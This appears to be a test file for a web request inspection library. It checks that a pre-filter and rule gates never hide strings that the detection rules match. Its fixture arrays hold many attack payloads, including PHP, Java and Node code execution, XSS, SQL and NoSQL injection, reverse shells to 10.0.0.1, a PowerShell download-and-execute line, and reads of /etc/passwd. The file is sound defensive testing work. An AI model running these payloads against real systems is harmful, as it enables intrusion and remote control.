import { readFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { seededRandom } from "@palisade/test-utils";
import ts from "typescript";
import { describe, expect, it } from "vitest";
import { variantsOf } from "./decode.js";
import { BOOKING_BENIGN } from "./fixtures/booking-benign.js";
import { CORPUS_DIR, corpusInputs } from "./fixtures/corpus.js";
import { SCRIPT_GATE_PAIRS } from "./html.js";
import { compileInspect, inspectRules, inspectWith } from "./inspect.js";
import { cannotMatch, ruleKeywords } from "./prefilter.js";
import {
  CODE_GATES,
  COMMAND_GATE_PAIRS,
  type Location,
  MONGO_JS_GATE,
  mayStartWithProgram,
  RULE_WORD_SETS,
} from "./rules.js";
import { SQL_GATES } from "./sql.js";

const srcDir = fileURLToPath(new URL(".", import.meta.url));
const LOCATIONS: readonly Location[] = ["value", "key", "header", "path"];
// Findings at level 4 with every kind are a superset of those at any lower level or kind subset.
const ALL = compileInspect("test", { paranoiaLevel: 4 });
// Read once for every check below (empty without the corpus).
const CORPUS = corpusInputs();

// Strings of the pre-filter's own alphabet built from rule keywords (whole, cut, with a letter
// before or after), short letter runs (accented Latin letters among them), digits, the allowed
// punctuation and apostrophes, plus letters it must refuse (ſ, ß, İ): the strings most likely to
// pass the pre-filter while still meaning something to a rule.
function generated(count: number): string[] {
  const keywords = [...ruleKeywords()];
  const letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZéñøÉüłđşǎȁ";
  const other = " _.,@+-0123456789ſßİ";
  const random = seededRandom(20_261_129);
  const run = (length: number) => {
    let text = "";
    for (let n = length; n > 0; n--) text += letters[random(letters.length)];
    return text;
  };
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    let text = "";
    for (let parts = 1 + random(6); parts > 0; parts--) {
      const pick = random(10);
      if (pick < 3) {
        const word = keywords[random(keywords.length)]!;
        const form = random(4);
        const letter = letters[random(letters.length)]!;
        text +=
          form === 0
            ? word
            : form === 1
              ? word + letter
              : form === 2
                ? letter + word
                : word.slice(0, 1 + random(word.length));
      } else if (pick < 5) text += run(1 + random(4));
      // A word with an apostrophe inside (O'Brien) or at an edge (the rules must see those).
      else if (pick === 5)
        text += random(8) === 0 ? `'${run(1 + random(4))}` : `${run(1 + random(4))}'${run(1 + random(6))}`;
      else text += other[random(other.length)];
    }
    out.push(text);
  }
  return out;
}

type GatePair = readonly [gate: (text: string) => boolean, rule: RegExp];

/** Each line with every decoded form of it: the rules run on each of them. */
function decodedForms(lines: readonly string[]): string[] {
  return lines.flatMap((text) => variantsOf(text).map((variant) => variant.text));
}

function matches(rule: RegExp, text: string): boolean {
  rule.lastIndex = 0;
  const hit = rule.test(text);
  rule.lastIndex = 0;
  return hit;
}

/** The texts a rule matches that its gate would have kept from it. */
function gateMisses(pairs: readonly GatePair[], texts: readonly string[]): string[] {
  const missed: string[] = [];
  for (const text of texts) {
    for (const [gate, rule] of pairs) {
      if (matches(rule, text) && !gate(text)) missed.push(`${rule.source.slice(0, 20)}… ${JSON.stringify(text)}`);
    }
  }
  return missed;
}

/** Rules no payload reaches: for them the soundness check would be vacuous. */
function unreached(pairs: readonly GatePair[], payloads: readonly string[]): string[] {
  return pairs.filter(([, rule]) => !payloads.some((text) => matches(rule, text))).map(([, rule]) => rule.source);
}

describe("the plain-text pre-filter", () => {
  it.each([
    "haircut-deluxe",
    "SUMMER-2026",
    "42",
    "alice@example.com",
    "+353 1 234 5678",
    "2026-12-24",
    "Jane",
    "barberId",
    "Seán",
    "Zoë Müller-Łukasiewicz",
  ])("lets %j skip the rules", (text) => {
    expect(cannotMatch(text)).toBe(true);
  });

  it.each(["O'Brien", "Seán O'Brien", "O'Neill", "l'équipe", "Chloé O'Hara"])(
    "lets %j skip the rules as prose, not as a key",
    (text) => {
      expect(cannotMatch(text, true)).toBe(true);
      expect(cannotMatch(text, false)).toBe(false);
    },
  );

  it.each([
    "a'or'b",
    "x' union",
    "wh'oami",
    "c'at",
    "O'Brien's",
    "'quoted",
    "quoted'",
    "it''s",
    "ſelect",
    "İf",
    "straße",
    "ĳ",
    "Seán's' 1",
  ])("sends %j to the rules even as prose", (text) => {
    expect(cannotMatch(text, true)).toBe(false);
  });

  it.each([
    "select",
    "Select whoever is free",
    "javascript",
    "unionall",
    "whoami",
    "w 5",
    "__proto__",
    "..",
    "a--",
    "@@version",
    "O'Brien",
    "%41",
    "a&b",
    "a\\b",
    "1::1",
  ])("sends %j to the rules", (text) => {
    expect(cannotMatch(text)).toBe(false);
  });

  it("takes its keywords from the rules' word lists and regexes", () => {
    const keywords = ruleKeywords();
    for (const word of ["select", "sleep", "whoami", "ls", "script", "error", "proto", "constructor", "passwd"]) {
      expect(keywords).toContain(word);
    }
  });

  // A rule regex whose words are not keywords could match text the pre-filter lets through.
  it("covers every word of every regex in the rule modules", () => {
    const keywords = ruleKeywords();
    const missing: string[] = [];
    for (const file of ["html.ts", "rules.ts", "sql.ts"]) {
      const source = ts.createSourceFile(file, readFileSync(join(srcDir, file), "utf8"), ts.ScriptTarget.Latest, true);
      const visit = (node: ts.Node) => {
        if (node.kind === ts.SyntaxKind.RegularExpressionLiteral) {
          const text = node.getText(source);
          const end = text.lastIndexOf("/");
          const body = new RegExp(text.slice(1, end), text.slice(end + 1)).source.replace(
            /\\(?:u\{[0-9a-f]+\}|u[0-9a-f]{4}|x[0-9a-f]{2}|c[a-z]|[pk]\{[^}]*\}|k<[^>]*>|.)/gi,
            " ",
          );
          for (const word of body.toLowerCase().match(/[a-z]{2,}/g) ?? []) {
            if (!keywords.has(word)) missing.push(`${file}: ${word} in ${text.slice(0, 60)}`);
          }
        }
        ts.forEachChild(node, visit);
      };
      visit(source);
    }
    expect(missing).toEqual([]);
  });

  // inspectWith is the pre-filter followed by inspectRules, so the two differ at most where the
  // pre-filter lets a string through: those strings must have no findings on the full path.
  const differences = (texts: readonly string[]) => {
    const out: string[] = [];
    let skipped = 0;
    let apostrophes = 0;
    let accented = 0;
    for (const text of texts) {
      if (!cannotMatch(text, true)) continue;
      skipped++;
      if (text.includes("'")) apostrophes++;
      if (/[^\0-\x7f]/.test(text)) accented++;
      for (const location of LOCATIONS) {
        const full = inspectRules(text, ALL, location);
        if (JSON.stringify(inspectWith(text, ALL, location)) !== JSON.stringify(full)) {
          out.push(`${location} ${JSON.stringify(text)}: ${full.map((f) => f.rule).join(", ")}`);
        }
      }
    }
    return { out, skipped, apostrophes, accented };
  };

  it.skipIf(CORPUS.length === 0)("gives the same findings as the full path on the corpus", () => {
    const { out, skipped } = differences([...CORPUS, ...BOOKING_BENIGN]);
    expect(out).toEqual([]);
    expect(skipped).toBeGreaterThan(100);
  });
  if (CORPUS.length === 0) console.warn(`prefilter.test: no corpus in ${CORPUS_DIR}; the corpus comparison is skipped`);

  it("gives the same findings as the full path on generated plain strings", () => {
    const { out, skipped, apostrophes, accented } = differences(generated(60_000));
    expect(out).toEqual([]);
    expect(skipped).toBeGreaterThan(5_000);
    // The prose and accented-letter paths are exercised, not only the ASCII one.
    expect(apostrophes).toBeGreaterThan(500);
    expect(accented).toBeGreaterThan(500);
  });
});

describe("the code rules' character gates", () => {
  const payloads = [
    "<?php system($_GET['c']); ?>",
    "<?= `id` ?>",
    "phpinfo()",
    "include $file",
    "require_once 'x.php'",
    "php://filter/convert.base64-encode/resource=index",
    "$\u007b@print(md5(1))}",
    'O:8:"stdClass":1:{s:1:"a";}',
    "$_GET[cmd]",
    "$GLOBALS",
    "java.lang.Runtime.getRuntime().exec('id')",
    "#_memberAccess",
    "$\u007bognl}",
    "new java.beans.XMLDecoder",
    "<java version='1'>",
    "rO0ABXNyABFqYXZh",
    "aced0005737200",
    "class.module.classLoader.URLs[0]=0",
    "require('child_process').exec('id')",
    "process.mainModule.require",
    "_$$ND_FUNC$$_function(){}",
    "new Function('return 1')()",
    "eval(atob('aWQ='))",
  ];
  it("never hide a string their rule matches, on payloads and on the corpus", () => {
    const pairs = CODE_GATES.map(([gate, rule]) => [(text: string) => gate.test(text), rule] as const);
    expect(gateMisses(pairs, decodedForms([...payloads, ...CORPUS, ...BOOKING_BENIGN]))).toEqual([]);
    // The payloads reach every rule, so the check is not vacuous.
    expect(unreached(pairs, payloads)).toEqual([]);
  });
});

describe("the script rules' gates", () => {
  const payloads = [
    '" onmouseover="alert(1)',
    "' formaction=javascript:alert(1)",
    " onload=alert(1)",
    "x onfocus = prompt`1`",
    "alert(document.domain)",
    "setTimeout(x, 10)",
    "document.cookie",
    "window['ale'+'rt'](1)",
    "!![]+[]",
    "x.innerHTML = y",
    "String.fromCharCode(88)",
    "a.constructor.constructor('x')()",
    "Reflect.apply(f, null, [])",
    "navigation.navigate('javascript:1')",
    "width: expression(alert(1))",
    "background:url('javascript:alert(1)')",
    "@import 'x.css'",
    "[].sort.call`$\u007balert}1`",
    "$\u007balert(1)}",
    "+ADw-script+AD4-",
    "+adw-script+ad4-",
  ];
  it("never hide a string their rule matches, on payloads and on the corpus", () => {
    expect(gateMisses(SCRIPT_GATE_PAIRS, decodedForms([...payloads, ...CORPUS, ...BOOKING_BENIGN]))).toEqual([]);
    expect(unreached(SCRIPT_GATE_PAIRS, payloads)).toEqual([]);
  });
});

describe("the command rules' gates", () => {
  const payloads = [
    "ls -la /tmp",
    "/bin/cat /etc/passwd",
    "  whoami",
    "\\ls -la",
    "sudo whoami",
    "time ncat -e /bin/sh 10.0.0.1 4444",
    "which perl",
    "pip install evil",
    "pip3.11 install evil",
    "sudo apt-get install nmap",
    "x; net user hacker p /add",
    "reg query HKLM\\Software",
    "a $(( 1+1 ))",
    "cat <(ls)",
    "bash -i >& /dev/tcp/10.0.0.1/4444",
    "alias ls=rm",
    "& if exist c:\\x echo y",
    "for /f %i in (x) do y",
    "powershell IEX (New-Object Net.WebClient).DownloadString('http://x')",
    "; iwr http://x",
    ";.shell id",
    '<!--#exec cmd="ls" -->',
    "%COMSPEC% /c dir",
    "cmd /c dir",
    "system('id')",
    "x; /usr/bin/id",
    "ftp.exe -s:x",
    "ftp_exe -s:x",
    "update-rc.d x defaults",
    "update-rc d -f x",
    "sc exe -x",
  ];
  // Every plain program name opening a command line, as the start-anchored regexes see them.
  const names = [...RULE_WORD_SETS.flatMap((set) => [...set])].flatMap((name) => [
    `${name} -la`,
    `  ${name} /etc/passwd`,
    `${name.toUpperCase()} 5`,
    name,
  ]);

  it("never hide a string their rule matches, on payloads, program names and the corpus", () => {
    const texts = decodedForms([...payloads, ...names, ...CORPUS, ...BOOKING_BENIGN]);
    expect(gateMisses(COMMAND_GATE_PAIRS, texts)).toEqual([]);
    expect(unreached(COMMAND_GATE_PAIRS, payloads)).toEqual([]);
  });

  it.each(["Skin fade, #2 on the sides; I'll be 5 min late. Select whoever is free <3", "O'Brien & Sons"])(
    "let %j skip the start-anchored rules",
    (text) => {
      expect(mayStartWithProgram(text)).toBe(false);
    },
  );
});

describe("the SQL fragment and NoSQL script gates", () => {
  const payloads = [
    "1 union select * from information_schema.tables",
    "select * from mysql.user",
    "' ; exec master..xp_cmdshell 'dir'",
    "select * from openrowset('x')",
    "x'; sleep(5000); var a='",
    "1; return true",
    "'; while(true){}",
    "' && this.password.match(/.*/)//",
    "' || 'a'=='a",
    "db.users.find()",
    "sleep(5000)",
  ];
  const pairs: GatePair[] = [
    ...SQL_GATES.map(([gate, rule]) => [(text: string) => gate.test(text), rule] as const),
    MONGO_JS_GATE,
  ];

  it("never hide a string their rule matches, on payloads and on the corpus", () => {
    expect(gateMisses(pairs, decodedForms([...payloads, ...CORPUS, ...BOOKING_BENIGN]))).toEqual([]);
    expect(unreached(pairs, payloads)).toEqual([]);
  });
});
